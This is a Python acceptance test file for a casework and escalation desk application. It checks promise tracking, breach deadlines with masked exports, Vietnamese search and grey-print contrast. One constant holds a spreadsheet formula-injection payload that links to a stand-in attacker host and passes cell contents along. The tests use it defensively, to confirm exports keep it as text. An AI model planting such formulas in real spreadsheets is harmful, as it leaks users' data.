"""Acceptance scenarios of the domain (§11) on what is found at the desk and on files that leave it, opened again."""

from __future__ import annotations

import json
from contextlib import closing
from datetime import timedelta
from typing import TYPE_CHECKING
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest

from escalation_desk.casework import acts
from escalation_desk.casework.case import Case
from escalation_desk.casework.choices import FollowUpForm, Priority, PromisedBy, RiskFlag, Severity, Urgency
from escalation_desk.casework.clocks import deadlines as limits
from escalation_desk.casework.clocks.records import Deadline
from escalation_desk.casework.people import Party
from escalation_desk.casework.promises import FollowUp, kept_rate
from escalation_desk.cli.main import run
from escalation_desk.documents.case_summary import Form
from escalation_desk.documents.leaving import Leave, export_cases
from escalation_desk.i18n import set_language
from escalation_desk.journal import deadlines, escalations
from escalation_desk.journal.keys import PASSPHRASE_VARIABLE

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from pathlib import Path

    from docx.text.run import Run

    from escalation_desk.casework.desk import ExportRecord
    from escalation_desk.journal.journal import Journal
    from tests.acceptance.conftest import Desk

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Hoàn tiền")'


def summary(desk: Desk, case: str, path: Path) -> str:
    """Write the case summary and read every word of it again."""
    export_cases(desk.journal, [case], path, Form(internal=True), Leave())
    document = docx.Document(str(path))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in document.paragraphs), *cells])


def test_scenario_12_a_promise_that_moved_twice_is_not_kept_and_the_case_summary_shows_the_moves(
    desk: Desk, tmp_path: Path
) -> None:
    case = desk.case()
    due = desk.now + timedelta(hours=2)
    with desk.journal.entry("Promise") as work:
        promise = work.add(
            FollowUp(
                case=case,
                text="Call back",
                due_at=due,
                form=FollowUpForm.PROMISE,
                promised_by=PromisedBy.US,
                owner=desk.linh.id,
            )
        ).id
    for hours, why in ((1, "Warehouse closed"), (2, "Still closed")):
        with desk.journal.entry("Move") as work:
            acts.move_due(work.get(FollowUp, promise), due + timedelta(hours=hours), why, desk.linh, work.now)
    desk.later(hours=3)
    with desk.journal.entry("Finish") as work:
        acts.finish(work.get(FollowUp, promise), work.now)

    assert kept_rate(desk.all_of(FollowUp), desk.now) == (0, 1, 1)
    words = summary(desk, case, tmp_path / "case.docx")
    assert "Not kept in time; moved: Warehouse closed; moved: Still closed" in words


def test_scenario_15_a_breach_of_personal_data_has_72_hours_is_told_within_15_minutes_and_leaves_masked(
    desk: Desk, tmp_path: Path
) -> None:
    with desk.journal.entry("Requester") as work:
        hoa = work.add(Party(display_name="Phạm Thị Hoa", phone="0912345678", email="hoa.pham@example.com")).id
    case = desk.case(
        title="Phạm Thị Hoa (0912345678) sees the orders of others",
        reason="GOV.DATA_BREACH",
        severity=Severity.S1,
        urgency=Urgency.U1,
        risk_flags=frozenset({RiskFlag.PRIVACY}),
        requester=hoa,
    )
    with closing(desk.journal.reader()) as made:
        told = {one.authority: one.due_at - desk.now for one in escalations.standing(made, case, desk.now).tellings}
        (rule,) = deadlines.standing(made, case, desk.now, ZoneInfo("Asia/Ho_Chi_Minh")).offered
    assert desk.read(Case, case).priority is Priority.P0
    assert told["DPO"] == told["LEGAL"] == timedelta(minutes=15)

    with desk.journal.entry("Deadline") as work:
        work.add(limits.by_rule(rule, work.get(Case, case), work.now))
    (deadline,) = desk.all_of(Deadline)
    assert deadline.due_at == desk.now + timedelta(hours=72)
    words = summary(desk, case, tmp_path / "breach.docx")
    assert "sees the orders of others" in words
    assert not [one for one in ("Phạm Thị Hoa", "0912345678", "hoa.pham@example.com") if one in words]


def _runs(path: Path) -> list[Run]:
    document = docx.Document(str(path))
    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
    lines = [*document.paragraphs, *(line for cell in cells for line in cell.paragraphs)]
    return [run for line in lines for run in line.runs]


def _contrast_in_grey(run: Run) -> float:
    """Say how a run stands out from white paper, as a grey printer prints it."""
    colour = run.font.color.rgb if run.font.color is not None else None
    parts = [part / 255 for part in (colour or (0, 0, 0))]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    grey: float = 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
    return 1.05 / (grey + 0.05)


@pytest.fixture
def typed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., int]:
    """Type commands at a desk of their own, which holds one imported case that begins like a formula."""
    monkeypatch.setenv(PASSPHRASE_VARIABLE, "correct horse")
    source = tmp_path / "tickets.csv"
    quoted = FORMULA.replace('"', '""')
    source.write_text(f'Ticket,Subject\n1,"{quoted}"\n2,Đổi địa chỉ\n', "utf-8")

    def type_it(*words: str) -> int:
        code = run(("--data", str(tmp_path / "own"), *words), NoWindow())
        set_language("en")
        return code

    assert type_it("import", str(source)) == 0
    return type_it


class NoWindow:
    """Nothing here opens a window."""

    def open(self, folder: Path) -> int:
        raise AssertionError(folder)

    def demo(self, folder: Path | None) -> int:
        raise AssertionError(folder)

    def write_pdf(
        self, journal: Journal, case_ids: Sequence[str], path: Path, form: Form, leave: Leave
    ) -> ExportRecord:
        raise AssertionError(journal, case_ids, path, form, leave)


def test_scenario_22_a_text_that_begins_with_a_formula_arrives_in_excel_as_text(
    typed: Callable[..., int], tmp_path: Path
) -> None:
    path = tmp_path / "list.xlsx"
    assert typed("export", "list", "--view", "everything", "--to", str(path)) == 0
    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == FORMULA] == ["s"]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]


def test_scenario_23_a_search_without_accents_finds_vietnamese(
    typed: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert typed("list", "cases", "--search", "hoan tien", "--json") == 0
    assert [one["title"] for one in json.loads(capsys.readouterr().out)["items"]] == [FORMULA]


def test_scenario_24_priority_and_severity_of_a_case_summary_are_readable_without_colour(
    desk: Desk, tmp_path: Path
) -> None:
    path = tmp_path / "grey.docx"
    words = summary(desk, desk.case(severity=Severity.S2, urgency=Urgency.U1), path).replace("\N{NO-BREAK SPACE}", " ")
    assert "■■■□ P1 High" in words
    assert "■■■□ S2 High" in words
    marked = [run for run in _runs(path) if "■■■□" in run.text]
    assert marked
    assert min(_contrast_in_grey(run) for run in marked) >= 4.5
